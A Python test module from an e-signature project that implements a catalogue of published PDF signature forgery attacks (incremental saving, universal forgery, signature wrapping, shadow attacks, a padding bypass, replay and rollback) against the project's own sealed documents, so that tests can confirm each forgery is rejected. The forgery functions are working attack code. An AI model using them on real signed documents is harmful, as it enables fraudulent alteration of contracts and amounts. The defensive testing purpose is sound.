"""A catalogue of attacks on signed PDFs, from the published research, crafted against our completed documents.

Sources: Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund: How To Spoof PDF
Signatures" (CCS 2019): incremental saving (ISA), universal signature forgery (USF), signature wrapping (SWA);
Mainka, Mladenov, Rohlmann, Schwenk, "Shadow Attacks: Hiding and Replacing Content in Signed PDFs" (NDSS 2021):
hide, replace, hide-and-replace; and the padding bypass found against this project (a later update redefines the
seal's dictionary with the same /ByteRange and CMS but /Contents as a zero-padded literal sized so that pyHanko's
length sum still equals the file size). Plus the plain ones: a rollback to an earlier version, another document's
signature replayed, bytes prepended, appended or cut, the padding inside /Contents edited, its hex case changed.

Each attack is a function (the victim's final PDF, a :class:`Sample`) -> the forged bytes. The tests require
every forgery to be non-authentic with the ledger and offline.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pypdf import PdfReader, PdfWriter
from reportlab.pdfgen.canvas import Canvas

from esign.verify.pdfsyntax import PdfString, Reader
from esign.verify.revisions import read_revisions


@dataclass(frozen=True)
class Sample:
    """What an attacker holds: our completed document, another one, and the victim's earlier version."""

    document_id: str
    final: bytes
    company_signed: bytes
    other_id: str
    other_final: bytes


@dataclass(frozen=True)
class Seal:
    """Where the seal sits in a final file."""

    number: int  # its signature dictionary's object number
    offset: int  # where that object is defined
    raw: bytes  # the object's bytes, "N 0 obj" to "endobj"
    byte_range: tuple[int, int, int, int]
    contents_start: int  # the "<" of /Contents
    contents_end: int  # just after its ">"


def seal_of(data: bytes) -> Seal:
    field = PdfFileReader(io.BytesIO(data)).embedded_signatures[0].sig_field
    number = field.raw_get("/V").idnum
    offset = read_revisions(data).revisions[-1].defined[number]
    reader = Reader(data)
    _, _, after = reader.object_header(offset)
    sig, end = reader.dictionary(after)
    contents = sig.get(b"Contents")
    assert isinstance(contents, PdfString)
    values = sig.get(b"ByteRange")
    assert isinstance(values, list)
    end = data.index(b"endobj", end) + len(b"endobj")
    a, b, c, d = (int(v) for v in values)  # type: ignore[call-overload]
    return Seal(number, offset, data[offset:end], (a, b, c, d), contents.start, contents.end)


class Raw(generic.PdfObject):  # type: ignore[misc]
    """An object written exactly as given (a forged signature dictionary)."""

    def __init__(self, raw: bytes) -> None:
        self.raw = raw

    def write_to_stream(self, stream: Any, handler: Any = None, container_ref: Any = None) -> None:
        stream.write(self.raw)


def pyhanko_update(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """One incremental update written by pyHanko (classic xref, as our files have)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _overlay_page(text: str) -> bytes:
    buf = io.BytesIO()
    canvas = Canvas(buf, pagesize=(595.27, 841.89))
    canvas.setFillColorRGB(1, 1, 1)
    canvas.rect(60, 380, 480, 60, stroke=0, fill=1)
    canvas.setFillColorRGB(0, 0, 0)
    canvas.setFont("Helvetica-Bold", 22)
    canvas.drawString(70, 400, text)
    canvas.showPage()
    canvas.save()
    return buf.getvalue()


def _draw_over(writer: IncrementalPdfFileWriter, page: int = 0, text: str = "Valor total: R$ 1,00") -> None:
    """A new content stream drawn over the page (the amount covered and rewritten)."""
    xobject = writer.import_page_as_xobject(PdfFileReader(io.BytesIO(_overlay_page(text))), 0)
    resources = generic.DictionaryObject({pdf_name("/XObject"): generic.DictionaryObject(
        {pdf_name("/Forged0"): xobject})})
    stream = writer.add_object(generic.StreamObject(stream_data=b"q /Forged0 Do Q"))
    writer.add_stream_to_page(page, stream, resources)


def _annotate(writer: IncrementalPdfFileWriter) -> None:
    """A FreeText annotation with its own appearance, over the amount."""
    xobject = writer.import_page_as_xobject(PdfFileReader(io.BytesIO(_overlay_page("R$ 1,00"))), 0)
    annot = writer.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"),
        pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 595, 842)]),
        pdf_name("/DA"): generic.pdf_string("/Helv 22 Tf 0 g"), pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): xobject}),
    }))
    page_ref, _ = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    existing = page.raw_get("/Annots").get_object() if "/Annots" in page else generic.ArrayObject()
    page[pdf_name("/Annots")] = generic.ArrayObject([*(existing.raw_get(i) for i in range(len(existing))), annot])
    writer.mark_update(page_ref)


def _extra_page(writer: IncrementalPdfFileWriter) -> None:
    source = PdfFileReader(io.BytesIO(_overlay_page("Aditivo: multa de R$ 1.000.000,00")))
    page = source.root["/Pages"]["/Kids"][0]
    copy = generic.DictionaryObject({pdf_name(k): writer.import_object(page.raw_get(k))
                                     for k in page if k != "/Parent"})
    writer.insert_page(copy)


def _pages(writer: IncrementalPdfFileWriter) -> list[Any]:
    return list(writer.root["/Pages"]["/Kids"])


def _stamped_page(writer: IncrementalPdfFileWriter) -> int:
    """The index of the page carrying the client's block (a page with an /EsignStamp form)."""
    for index, page in enumerate(_pages(writer)):
        resources = page.get_object().get("/Resources")
        xobjects = resources.get_object().get("/XObject") if resources is not None else None
        if xobjects is not None and any(str(k).startswith("/EsignStamp") for k in xobjects.get_object()):
            return index
    raise AssertionError("no stamped page")


def _hide_client_block(writer: IncrementalPdfFileWriter) -> None:
    """Shadow hide: the page's content array loses the stream that draws the client's signature block."""
    page_ref, _ = writer.find_page_for_modification(_stamped_page(writer))
    page = page_ref.get_object()
    contents = page.raw_get("/Contents")
    items = contents.get_object() if isinstance(contents, generic.IndirectObject) else contents
    page[pdf_name("/Contents")] = generic.ArrayObject([items.raw_get(i) for i in range(len(items) - 1)])
    writer.mark_update(page_ref)


def _replace_client_block(writer: IncrementalPdfFileWriter) -> None:
    """Shadow replace: the client block's form is redefined (same object number) to draw something else."""
    page = _pages(writer)[_stamped_page(writer)].get_object()
    xobjects = page["/Resources"]["/XObject"]
    name = sorted(str(k) for k in xobjects if str(k).startswith("/EsignStamp"))[-1]
    ref = xobjects.raw_get(name)
    form = ref.get_object()
    replaced = generic.StreamObject({k: form.raw_get(k) for k in form if k not in ("/Length", "/Filter")},
                                    stream_data=b"BT /F1 1 Tf ET")
    writer.objects[(ref.generation, ref.idnum)] = replaced


def _other_documents_pages(sample: Sample) -> Callable[[IncrementalPdfFileWriter], None]:
    """Shadow hide-and-replace: the page tree now lists another document's pages; the seal's bytes stay put."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        other = PdfFileReader(io.BytesIO(sample.other_final))
        pages_ref = writer.root.raw_get("/Pages")
        tree = pages_ref.get_object()
        kids = []
        for kid in other.root["/Pages"]["/Kids"]:
            page = kid.get_object()
            copy = generic.DictionaryObject({pdf_name(k): writer.import_object(page.raw_get(k))
                                             for k in page if k != "/Parent"})
            copy[pdf_name("/Parent")] = pages_ref
            kids.append(writer.add_object(copy))
        tree[pdf_name("/Kids")] = generic.ArrayObject(kids)
        tree[pdf_name("/Count")] = generic.NumberObject(len(kids))
        writer.mark_update(pages_ref)

    return change


def _literal(raw: bytes) -> bytes:
    return b"(" + re.sub(rb"([()\\\r])", lambda m: b"\\r" if m.group(1) == b"\r" else b"\\" + m.group(1), raw) + b")"


def padding_bypass(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """One update: ``change`` plus the seal's dictionary redefined with the same /ByteRange and CMS, /Contents
    now a zero-padded literal string sized so that len1 + len2 + 2 * len(/Contents) + 2 is the new file size."""
    seal = seal_of(data)
    cms = bytes.fromhex(data[seal.contents_start + 1:seal.contents_end - 1].decode())
    _, a, b, d = seal.byte_range  # a: end of the first signed range, b: start of the second, d: its length
    head, tail = seal.raw[:seal.contents_start - seal.offset], seal.raw[seal.contents_end - seal.offset:]
    head = head[head.index(b"<<"):]  # the dictionary itself, without "N 0 obj"
    tail = tail[:tail.rindex(b">>") + 2]
    size = (b - a - 2) // 2  # bytes the literal decodes to; the file grows by about as much as the literal
    for _ in range(10):
        forged = head + _literal(cms.rstrip(b"\0").ljust(size, b"\0")) + tail

        def both(writer: IncrementalPdfFileWriter, forged: bytes = forged) -> None:
            change(writer)
            writer.objects[(0, seal.number)] = Raw(forged)

        out = pyhanko_update(data, both)
        target = len(out) - a - d - 2  # what 2 * len(/Contents) must be for pyHanko's sum to hit the file size
        if target == 2 * size:
            return out
        size = target - size  # one more byte of literal grows the file by one byte
    raise AssertionError("the padded literal did not converge")


def _redefine_seal(data: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    """USF: one update that draws over page 1 and redefines the seal's dictionary through ``edit``."""
    seal = seal_of(data)
    body = seal.raw[seal.raw.index(b"<<"):seal.raw.rindex(b">>") + 2]

    def change(writer: IncrementalPdfFileWriter) -> None:
        _draw_over(writer)
        writer.objects[(0, seal.number)] = Raw(edit(body))

    return pyhanko_update(data, change)


def _without(key: bytes) -> Callable[[bytes], bytes]:
    return lambda body: re.sub(rb"/" + key + rb"\s*(<[0-9A-Fa-f\s]*>|\[[^\]]*\])", b"", body)


def _with(key: bytes, value: bytes) -> Callable[[bytes], bytes]:
    return lambda body: re.sub(rb"/" + key + rb"\s*(<[0-9A-Fa-f\s]*>|\[[^\]]*\])", b"/" + key + b" " + value, body)


def swa_relocated(data: bytes) -> bytes:
    """SWA: /Contents shortened (padding dropped); in the freed room a first /ByteRange whose second range points
    past injected objects at the signed tail, moved there; the tail still carries the original /ByteRange, so the
    dictionary holds the key twice and a parser that takes the first one hashes exactly the signed bytes."""
    seal = seal_of(data)
    _, a, b, d = seal.byte_range
    cms_hex = data[a + 1:b - 1].rstrip(b"0")
    cms_hex += b"0" * (len(cms_hex) % 2)
    evil = b"\n99 0 obj\n<< /Forged true >>\nendobj\n"

    def prefix(moved_to: int) -> bytes:
        return b"<" + cms_hex + b"> /ByteRange [0 %d %d %d] /Pad (" % (a, moved_to, d) + evil + b")"

    moved_to = a + len(prefix(b))
    moved_to = a + len(prefix(moved_to))
    forged = data[:a] + prefix(moved_to) + data[b:]
    assert len(forged) == moved_to + d
    return forged


def swa_gap_injection(data: bytes) -> bytes:
    """SWA-like: the gap keeps its size, but /Contents ends early and hidden bytes sit in the rest of it."""
    seal = seal_of(data)
    _, a, b, _ = seal.byte_range
    cms_hex = data[a + 1:b - 1].rstrip(b"0")
    cms_hex += b"0" * (len(cms_hex) % 2)
    hidden = b" /Hidden (" + b"x" * (b - a - len(cms_hex) - 2 - 11) + b")"
    gap = b"<" + cms_hex + b">" + hidden
    assert len(gap) == b - a
    return data[:a] + gap + data[b:]


def _padding(data: bytes, change: Callable[[bytes], bytes]) -> bytes:
    seal = seal_of(data)
    _, a, b, _ = seal.byte_range
    return data[:a + 1] + change(data[a + 1:b - 1]) + data[b - 1:]


def _last_digit(hex_text: bytes) -> bytes:
    return hex_text[:-1] + b"1"


def _middle_of_padding(hex_text: bytes) -> bytes:
    cms_end = len(hex_text.rstrip(b"0"))
    middle = (cms_end + len(hex_text)) // 2
    return hex_text[:middle] + b"FF" + hex_text[middle + 2:]


def _hidden_data(hex_text: bytes) -> bytes:
    message = b"HIDDEN MESSAGE IN THE PADDING".hex().upper().encode()
    return hex_text[:-len(message)] + message


def _whitespace(hex_text: bytes) -> bytes:
    return hex_text[:-2] + b"0 "


def _lower(hex_text: bytes) -> bytes:
    return hex_text.lower()


def _lower_cms(hex_text: bytes) -> bytes:
    cms_end = len(hex_text.rstrip(b"0"))
    return hex_text[:cms_end].lower() + hex_text[cms_end:]


def _replay_contents(data: bytes, sample: Sample) -> bytes:
    """The other document's seal (its CMS) in this document's /Contents, sized to fit."""
    mine, theirs = seal_of(data), seal_of(sample.other_final)
    cms = sample.other_final[theirs.contents_start + 1:theirs.contents_end - 1].rstrip(b"0")
    cms += b"0" * (len(cms) % 2)
    room = mine.contents_end - mine.contents_start - 2
    return data[:mine.contents_start + 1] + (cms + b"0" * room)[:room] + data[mine.contents_end - 1:]


def _claim_other_id(sample: Sample) -> bytes:
    """The other document's sealed file, updated to claim the victim's ID in its Info dictionary."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        info_ref = writer.trailer.raw_get("/Info")
        info = info_ref.get_object()
        info[pdf_name("/EsignDocumentId")] = generic.TextStringObject(sample.document_id)
        writer.mark_update(info_ref)

    return pyhanko_update(sample.other_final, change)


def _pypdf_incremental(data: bytes) -> bytes:
    """ISA written by another tool (pypdf: a cross-reference stream over our classic table)."""
    writer = PdfWriter(io.BytesIO(data), incremental=True)
    writer.pages[0].merge_page(PdfReader(io.BytesIO(_overlay_page("R$ 1,00"))).pages[0])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _objects_without_xref(data: bytes) -> bytes:
    """ISA variant: redefined objects appended after %%EOF, no xref and no trailer (viewers repair)."""
    info_ref = PdfReader(io.BytesIO(data)).trailer.raw_get("/Info")
    return data + b"%d 0 obj\n<< /Title (Contrato cancelado) /EsignDocumentId (x) >>\nendobj\n" % info_ref.idnum


def _xref_only_update(data: bytes) -> bytes:
    """ISA variant: an update that is only an xref section, pointing page 1's object at another object's bytes."""
    revision = read_revisions(data).revisions[-1]
    reader = PdfReader(io.BytesIO(data))
    first = reader.pages[0].indirect_reference.idnum  # type: ignore[union-attr]
    last = reader.pages[-1].indirect_reference.idnum  # type: ignore[union-attr]
    size = revision.trailer.get(b"Size")
    root, info = reader.trailer.raw_get("/Root").idnum, reader.trailer.raw_get("/Info").idnum
    xref_at = len(data)
    return data + (b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\n"
                   b"startxref\n%d\n%%%%EOF\n" % (first, revision.defined[last], size, root, info,
                                                 revision.xref_offset, xref_at))


AttackFn = Callable[[bytes, Sample], bytes]

CATALOGUE: dict[str, tuple[str, AttackFn]] = {
    # incremental saving (ISA)
    "isa: content stream drawn over the amount": ("ISA", lambda d, s: pyhanko_update(d, _draw_over)),
    "isa: annotation over the amount": ("ISA", lambda d, s: pyhanko_update(d, _annotate)),
    "isa: extra page": ("ISA", lambda d, s: pyhanko_update(d, _extra_page)),
    "isa: update by another tool (xref stream)": ("ISA", lambda d, s: _pypdf_incremental(d)),
    "isa: objects appended without xref": ("ISA", lambda d, s: _objects_without_xref(d)),
    "isa: xref-only update re-pointing a page": ("ISA", lambda d, s: _xref_only_update(d)),
    # the padding bypass: the seal's dictionary redefined with a padded literal /Contents
    "padding bypass + content over the amount": ("ISA/USF", lambda d, s: padding_bypass(d, _draw_over)),
    "padding bypass + annotation": ("ISA/USF", lambda d, s: padding_bypass(d, _annotate)),
    "padding bypass + extra page": ("ISA/USF", lambda d, s: padding_bypass(d, _extra_page)),
    "padding bypass + shadow hide": ("ISA/USF", lambda d, s: padding_bypass(d, _hide_client_block)),
    # universal signature forgery (USF): the seal's dictionary redefined with values validators mishandle
    "usf: /Contents removed": ("USF", lambda d, s: _redefine_seal(d, _without(b"Contents"))),
    "usf: /Contents empty": ("USF", lambda d, s: _redefine_seal(d, _with(b"Contents", b"<>"))),
    "usf: /Contents null": ("USF", lambda d, s: _redefine_seal(d, _with(b"Contents", b"null"))),
    "usf: /Contents a number": ("USF", lambda d, s: _redefine_seal(d, _with(b"Contents", b"0"))),
    "usf: /ByteRange removed": ("USF", lambda d, s: _redefine_seal(d, _without(b"ByteRange"))),
    "usf: /ByteRange null": ("USF", lambda d, s: _redefine_seal(d, _with(b"ByteRange", b"null"))),
    "usf: /ByteRange empty": ("USF", lambda d, s: _redefine_seal(d, _with(b"ByteRange", b"[]"))),
    "usf: /ByteRange [0 0 0 0]": ("USF", lambda d, s: _redefine_seal(d, _with(b"ByteRange", b"[0 0 0 0]"))),
    "usf: /ByteRange negative": ("USF", lambda d, s: _redefine_seal(d, _with(b"ByteRange", b"[0 -1 -1 0]"))),
    # signature wrapping (SWA)
    "swa: second /ByteRange to a moved signed tail": ("SWA", lambda d, s: swa_relocated(d)),
    "swa: bytes hidden in the gap after a short /Contents": ("SWA", lambda d, s: swa_gap_injection(d)),
    # shadow attacks
    "shadow hide: client block dropped": ("Shadow", lambda d, s: pyhanko_update(d, _hide_client_block)),
    "shadow replace: client block redefined": ("Shadow", lambda d, s: pyhanko_update(d, _replace_client_block)),
    "shadow hide-and-replace: another document's pages": (
        "Shadow", lambda d, s: pyhanko_update(d, _other_documents_pages(s))),
    # rollback and replay
    "rollback: the company-signed version": ("Rollback", lambda d, s: s.company_signed),
    "rollback: cut before %%EOF": ("Rollback", lambda d, s: d[:d.rindex(b"%%EOF")]),
    "replay: another document's seal in /Contents": ("Replay", _replay_contents),
    "replay: another sealed document claiming this ID": ("Replay", lambda d, s: _claim_other_id(s)),
    "replay: another sealed document with this ID spliced in": (
        "Replay", lambda d, s: s.other_final.replace(s.other_id[4:].encode(), s.document_id[4:].encode())),
    # prepend, append, truncate
    "prepend: junk before the header": ("Framing", lambda d, s: b"X" * 100 + b"\n" + d),
    "prepend: one newline": ("Framing", lambda d, s: b"\n" + d),
    "append: junk after %%EOF": ("Framing", lambda d, s: d + b"junk\n"),
    "append: a comment": ("Framing", lambda d, s: d + b"% a comment\n"),
    "append: another %%EOF": ("Framing", lambda d, s: d + b"%%EOF\n"),
    "append: another whole PDF": ("Framing", lambda d, s: d + s.other_final),
    "truncate: last byte": ("Framing", lambda d, s: d[:-1]),
    "truncate: half": ("Framing", lambda d, s: d[: len(d) // 2]),
    # the padding inside /Contents, and its letter case
    "padding: last digit changed": ("Padding", lambda d, s: _padding(d, _last_digit)),
    "padding: a byte in the middle changed": ("Padding", lambda d, s: _padding(d, _middle_of_padding)),
    "padding: a message hidden in it": ("Padding", lambda d, s: _padding(d, _hidden_data)),
    "padding: whitespace in the hex string": ("Padding", lambda d, s: _padding(d, _whitespace)),
    "hex case: all lower-case": ("Hex case", lambda d, s: _padding(d, _lower)),
    "hex case: the signature lower-case": ("Hex case", lambda d, s: _padding(d, _lower_cms)),
}
